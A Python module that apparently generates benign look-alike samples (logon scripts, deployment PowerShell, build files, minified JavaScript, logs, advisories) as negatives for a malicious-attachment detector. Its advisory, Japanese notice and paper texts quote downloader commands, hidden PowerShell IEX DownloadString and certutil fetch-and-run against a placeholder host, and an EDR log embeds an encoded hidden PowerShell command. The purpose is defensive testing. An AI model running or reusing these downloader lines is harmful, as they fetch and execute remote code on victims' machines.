"""Scripts and texts of honest work that look like the others: (id, files, how).

files: (name, bytes) in order; how: "attach" (each as it is) or "zip".
"""
import base64
import random

from .disguise import PS, b64w, packed

LOGIN = """' ログオンスクリプト  総務部共通
Option Explicit
On Error Resume Next
Dim net, sh, fso, user
Set net = CreateObject("WScript.Network")
Set sh = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
user = net.UserName
net.RemoveNetworkDrive "P:", True, True
net.MapNetworkDrive "P:", "\\\\fs01\\public"
net.MapNetworkDrive "H:", "\\\\fs01\\home\\" & user
net.AddWindowsPrinterConnection "\\\\ps01\\3F-mono"
net.SetDefaultPrinter "\\\\ps01\\3F-mono"
If Not fso.FolderExists("C:\\work") Then
  fso.CreateFolder "C:\\work"
End If
sh.RegWrite "HKCU\\Software\\Example\\LastLogon", Now
sh.Run "\\\\fs01\\netlogon\\notice.bat " & Chr(34) & user & Chr(34), 1, False
"""
ADMIN = """# 端末に業務アプリを配布する
param([string[]]$Computer = (Get-Content .\\hosts.txt), [switch]$Force)
Set-StrictMode -Version 2
$ErrorActionPreference = 'Stop'
$url  = 'https://intra.example.co.jp/dist/client-4.2.msi'
$file = Join-Path $env:TEMP 'client-4.2.msi'
Invoke-WebRequest -Uri $url -OutFile $file -UseBasicParsing
if ((Get-FileHash $file -Algorithm SHA256).Hash -ne (Get-Content .\\client-4.2.sha256)) {
    throw "checksum of {0} differs" -f $file
}
foreach ($c in $Computer) {
    Write-Host ("{0,-20} {1}" -f $c, (Get-Date -Format 'yyyy-MM-dd'))
    Copy-Item $file "\\\\$c\\c$\\Windows\\Temp\\" -Force:$Force
}
"""
BUILD = """@echo off
setlocal enabledelayedexpansion
set SRC=src
set OUT=%~dp0out
set VERSION=%DATE:~0,4%%DATE:~5,2%%DATE:~8,2%
if not exist "%OUT%" mkdir "%OUT%"
for %%f in (%SRC%\\*.c) do (
  cl /nologo /c /W4 /O2 "%%f" /Fo"%OUT%\\%%~nf.obj" || goto failed
  set OBJS=!OBJS! "%OUT%\\%%~nf.obj"
)
link /nologo /out:"%OUT%\\tool-%VERSION%.exe" %OBJS%
if errorlevel 1 goto failed
xcopy /y /q doc\\*.txt "%OUT%\\" >nul
start "" explorer "%OUT%"
exit /b 0
:failed
echo build failed 1>&2
exit /b 1
"""
SHIM_CMD = """@ECHO off
GOTO start
:find_dp0
SET dp0=%~dp0
EXIT /b
:start
SETLOCAL
CALL :find_dp0
IF EXIST "%dp0%\\node.exe" (
  SET "_prog=%dp0%\\node.exe"
) ELSE (
  SET "_prog=node"
  SET PATHEXT=%PATHEXT:;.JS;=;%
)
endLocal & goto #_undefined_# 2>NUL || title %COMSPEC% & "%_prog%"  "%dp0%\\..\\tool\\bin\\tool.js" %*
"""
SHIM_PS = """#!/usr/bin/env pwsh
$basedir=Split-Path $MyInvocation.MyCommand.Definition -Parent
$exe=""
if ($PSVersionTable.PSVersion -lt "6.0" -or $IsWindows) {
  $exe=".exe"
}
$ret=0
if (Test-Path "$basedir/node$exe") {
  if ($MyInvocation.ExpectingInput) {
    $input | & "$basedir/node$exe"  "$basedir/../tool/bin/tool.js" $args
  } else {
    & "$basedir/node$exe"  "$basedir/../tool/bin/tool.js" $args
  }
  $ret=$LASTEXITCODE
}
exit $ret
"""
UNATTEND = """@echo off
rem first logon of a new machine
reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU" /v NoAutoRebootWithLoggedOnUsers /t REG_DWORD /d 1 /f
net user localadmin /active:no
powercfg /hibernate off
schtasks /create /tn "inventory" /tr "C:\\tools\\inventory.cmd" /sc daily /st 12:30 /ru SYSTEM /f
msiexec /i \\\\deploy01\\apps\\agent.msi /qn /norestart
copy /y \\\\deploy01\\apps\\*.lnk "%PUBLIC%\\Desktop\\" >nul 2>&1
shutdown /r /t 60 /c "setup is complete"
"""
HOOK = """#!/bin/sh
# runs the checks before a commit
files=$(git diff --cached --name-only --diff-filter=ACM -- '*.js' '*.ps1')
[ -z "$files" ] && exit 0
eval "set -- $files"
node_modules/.bin/eslint "$@" || { echo "eslint found problems"; exit 1; }
curl -fsS https://hooks.example.co.jp/ping >/dev/null 2>&1 || true
"""
EXPORT = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>売上ダッシュボード</title></head><body>
<table id="t"><tr><th>支店</th><th>売上</th></tr>%s</table><button onclick="save()">Excel</button>
<script>
function save() {
  var rows = document.querySelectorAll("#t tr"), out = [];
  for (var i = 0; i < rows.length; i++) {
    var c = rows[i].children;
    out.push([c[0].innerText, c[1].innerText].join("\\t"));
  }
  var csv = String.fromCharCode(0xFEFF) + out.join("\\r\\n");
  var a = document.createElement("a");
  a.href = "data:text/csv;charset=utf-8," + encodeURIComponent(csv);
  a.download = "uriage.csv";
  a.click();
}
</script></body></html>
""" % "".join("<tr><td>第%d支店</td><td>%d</td></tr>" % (i, 1000 + i * 37) for i in range(40))

ADVISORY = """JPCERT style advisory: downloaders in script files                       2026-08-14

Since the beginning of July we have seen a rise of mails with a compressed script
attached. The scripts are obfuscated. They put the names of objects together from
short pieces, so that a search for the names finds nothing. A typical line reads

    var x = new ActiveXObject("MSX" + "ML2.XM" + "LHTTP");

and further below the program that was fetched is started with

    new ActiveXObject("WScript.Shell").Run(f, 0);

Other samples start PowerShell. The command line of one of them, with the host
replaced, was

    powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://files.example/in/a.ps1')

What administrators can do: let script files be opened by a text editor instead of
the script host, block the types at the mail gateway, and look through the proxy log
for requests to the hosts in the appendix. Users should be told not to open such
attachments even if the mail seems to come from somebody whom they know.
If a machine has run the script, take it off the network and tell us.
"""
ADVISORY_JA = """【注意喚起】スクリプトファイルを添付した不審メールについて

お疲れさまです。情報システム部です。
7月下旬より、圧縮したスクリプトを添付した不審メールが社内に届いています。
添付ファイルを開くと、次のようなコマンドが実行されます。

powershell -ExecutionPolicy Bypass -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://files.example/in/a.ps1')
certutil -urlcache -f http://files.example/in/a.bin a.tmp
cmd /c start a.tmp

上のコマンドがログに残っている端末は、すぐにネットワークから切り離してください。
ご不明な点は内線 1234 までご連絡ください。
"""
MANUAL = """PC セットアップ手順書（第 3 版）

1. 管理者として PowerShell を開きます。
2. 次のコマンドを順に実行します。

   Set-ExecutionPolicy RemoteSigned -Scope CurrentUser
   Invoke-WebRequest https://intra.example.co.jp/setup/tool.zip -OutFile tool.zip
   Expand-Archive tool.zip -DestinationPath C:\\tools
   Start-Process C:\\tools\\setup.exe -Wait

3. 再起動したあと、ネットワークドライブが見えることを確認します。

   net use P: \\\\fs01\\public

   見えない場合は、総務部までご連絡ください。
"""
README = """# tool

Small helper for our build.

## Install

```
npm install --save-dev tool
curl -fsSL https://get.example.co.jp/tool.sh | sh
```

## Use

```js
const tool = require('tool');
tool.run({ src: 'src', out: 'dist' }).then(() => console.log('done'));
```

On Windows start PowerShell and type

```ps1
iwr https://get.example.co.jp/tool.ps1 -OutFile tool.ps1
.\\tool.ps1
```

The tool asks before it changes anything. See the folder doc for all settings.
"""
PAPER = """4.2  Deobfuscation of script downloaders

We distinguish four classes of transformations. String splitting replaces a literal
by a sum of shorter ones ("WScr" + "ipt.Shell"). Encoding replaces each character by
an escape sequence or by a call: String.fromCharCode(87, 83, 99, 114, 105, 112, 116).
Staging passes a computed string to eval(), Execute or Invoke-Expression. Finally,
dead code adds statements without effect. Of the 4,211 samples in our set, 83 % use
the first class, 61 % the second, and 97 % the third. Listing 3 shows an example:

  1  var a = ["MSX", "ML2.", "XMLH", "TTP"];
  2  var b = new ActiveXObject(a.join(""));
  3  b.open("GET", "http://files.example/in/a.bin", false);
  4  eval(unescape("%61%6c%65%72%74%28%31%29"));

The tool rewrites line 2 to new ActiveXObject("MSXML2.XMLHTTP"). Precision is 0.98
at a recall of 0.95. The remaining failures are due to environment keyed samples,
which we do not emulate. We publish neither the samples nor the rewritten scripts.
"""
LOG = "".join(
    "2026-08-14 09:%02d:%02d,pc%03d,EventID=4688,C:\\Windows\\System32\\cmd.exe,cmd.exe /c net use P: \\\\fs01\\public\n"
    "2026-08-14 09:%02d:%02d,pc%03d,EventID=4104,powershell.exe,Get-ChildItem C:\\work | Where-Object { $_.Length -gt 1MB }\n"
    % (i, i, i, i, i + 1, i) for i in range(40))
LOG_ALERT = "".join(
    "Aug 14 10:%02d:01 edr01 alert: host=pc%03d user=EXAMPLE\\user%d cmd=\"powershell.exe -nop -w hidden -enc %s\" action=blocked\n"
    % (i, i, i, b64w(PS)[:120]) for i in range(30))


def minified(rnd, n=400):
    """Like a minified library: short names, strings that it concatenates, escapes, ActiveXObject for old browsers."""
    verbs = ["addClass", "append", "closest", "css", "data", "each", "fadeIn", "filter", "find", "html", "on", "parent", "val"]
    body = "".join(
        "e.fn.%s%d=function(t,n){return void 0===n?this.%s(t,\"%s-\"+t):this.each(function(){i.%s(this,n,\"\\u00a0\"+t+\"]\")})};"
        % (rnd.choice(verbs), k, rnd.choice(verbs), rnd.choice(verbs), rnd.choice(verbs)) for k in range(n))
    return ("/*! tool v2.1.0 | (c) Example | MIT */\n!function(e,t){\"object\"==typeof module?module.exports=t(e):e.$=t(e)}(this,function(r){"
            "var a=\"[\\\\x20\\\\t\\\\r\\\\n\\\\f]\",o=\"(?:\\\\\\\\.|[\\\\w-]|[^\\\\x00-\\\\xa0])+\",u=new RegExp(\"^\"+a+\"+|((?:^|[^\\\\\\\\])(?:\\\\\\\\.)*)\"+a+\"+$\",\"g\"),"
            "c=function(){try{return new r.XMLHttpRequest}catch(e){return new ActiveXObject(\"Microsoft.XMLHTTP\")}},l=function(e){(0,eval)(e)},"
            "p=function(e,t){var n=\"0x\"+(t.slice(1)-65536);return n<0?String.fromCharCode(n+65536):String.fromCharCode(n>>10|55296,1023&n|56320)};" + body + "return e});")


def bundle(rnd, n=120):
    return "(()=>{var e={" + ",".join(
        "%d:(e,t,n)=>{\"use strict\";Object.defineProperty(t,\"__esModule\",{value:!0}),t.%s=void 0;const r=n(%d);t.%s=async e=>"
        "{const t=await fetch(\"/api/%s/\"+e);return(0,r.parse)(await t.text())}}" % (k, w, k + 1, w, w)
        for k, w in ((k, rnd.choice(["orders", "items", "users", "stock"]) + str(k)) for k in range(n))) + "},t={};})();\n//# sourceMappingURL=main.js.map\n"


def messages_js():
    words = ["保存しました", "削除してもよろしいですか", "ファイルを選択してください", "接続できませんでした", "もう一度お試しください"]
    return "var M={" + ",".join("\"m%d\":\"%s\"" % (i, "".join("\\u%04x" % ord(c) for c in words[i % 5])) for i in range(80)) + "};\n"


def texts():
    rnd = random.Random(7)
    p7 = base64.encodebytes(rnd.randbytes(1800)).decode()
    mini = minified(rnd)
    return [
        ("login_vbs", [("logon.vbs", LOGIN.encode("cp932")), ("readme.txt", "各自の端末で実行してください。\n".encode("cp932"))] + [
            ("user%d.ini" % i, b"[drive]\r\nP=public\r\n") for i in range(6)], "zip"),
        ("login_vbs_bare", [("logon.vbs", LOGIN.encode("cp932"))], "attach"),
        ("admin_ps1", [("deploy.ps1", ADMIN.encode())], "attach"),
        ("admin_ps1_wide", [("deploy.ps1", b"\xff\xfe" + ADMIN.encode("utf-16-le"))], "attach"),
        ("build_bat", [("build.bat", BUILD.replace("\n", "\r\n").encode())], "attach"),
        ("unattend", [("firstlogon.cmd", UNATTEND.replace("\n", "\r\n").encode())], "attach"),
        ("npm_shims", [("tool.cmd", SHIM_CMD.replace("\n", "\r\n").encode()), ("tool.ps1", SHIM_PS.encode()), ("package.json", b"{}\n"),
                       ("tool", b"#!/bin/sh\nexec node tool.js\n")], "zip"),
        ("minified", [("js/tool.min.js", mini.encode()), ("index.html", b"<html><script src=js/tool.min.js></script></html>")], "zip"),
        ("packed_library", [("js/tool.pack.js", packed(mini[:9000]).encode()), ("index.html", b"<html><script src=js/tool.pack.js></script></html>")], "zip"),
        ("packed_alone", [("tool.pack.txt", packed(mini[:9000]).encode())], "attach"),
        ("bundle", [("dist/main.js", bundle(rnd).encode()), ("dist/main.js.map", b"{}"), ("dist/index.html", b"<html></html>"), ("package.json", b"{}")], "zip"),
        ("messages", [("i18n/ja.js", messages_js().encode()), ("index.html", b"<html></html>")], "zip"),
        ("dashboard", [("dashboard.html", EXPORT.encode())], "attach"),
        ("git_hook", [("pre-commit", HOOK.encode())], "attach"),
        ("advisory", [("advisory.txt", ADVISORY.encode())], "attach"),
        ("advisory_ja", [("chuui.txt", ADVISORY_JA.encode("cp932"))], "attach"),
        ("manual_ja", [("setup.txt", MANUAL.encode("euc-jp"))], "attach"),
        ("readme", [("README.md", README.encode())], "attach"),
        ("paper", [("section4.txt", PAPER.encode())], "attach"),
        ("log", [("events.csv", LOG.encode())], "attach"),
        ("log_alert", [("edr.log", LOG_ALERT.encode())], "attach"),
        ("p7b", [("chain.p7b", ("-----BEGIN PKCS7-----\n" + p7 + "-----END PKCS7-----\n").encode())], "attach"),
        ("certificate", [("server.crt", ("-----BEGIN CERTIFICATE-----\n" + p7 + "-----END CERTIFICATE-----\n").encode())], "attach"),
        ("eml", [("notice.eml", ("From: a@example.co.jp\nTo: b@example.co.jp\nSubject: advisory\nMIME-Version: 1.0\n"
                                 "Content-Type: text/plain; charset=utf-8\n\n" + ADVISORY).encode())], "attach"),
    ]
